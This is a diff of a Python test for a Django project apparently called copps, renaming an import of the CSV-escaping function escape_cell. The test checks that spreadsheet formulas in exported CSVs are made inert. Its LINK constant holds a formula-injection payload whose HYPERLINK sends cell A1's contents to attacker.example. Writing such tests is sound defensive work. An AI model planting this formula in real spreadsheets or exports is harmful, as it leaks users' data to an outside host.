@@ -1,4 +1,4 @@
-"""Every CSV copps writes makes a spreadsheet formula inert (one writer, copps.csvfiles): a rejected
+"""Every CSV copps writes makes a spreadsheet formula inert (one writer, copps.files): a rejected
 row or a scan result holding ``=HYPERLINK(...)`` comes out with a leading apostrophe, through the
 commands that write them."""
 
@@ -10,7 +10,7 @@ import pytest
 from django.core.management import call_command
 from tests.incidents.test_import_messy import GOOD, denver_profile, rows, write
 
-from copps.csvfiles import escape_cell
+from copps.files import escape_cell
 from copps.incidents.models import Event
 
 LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
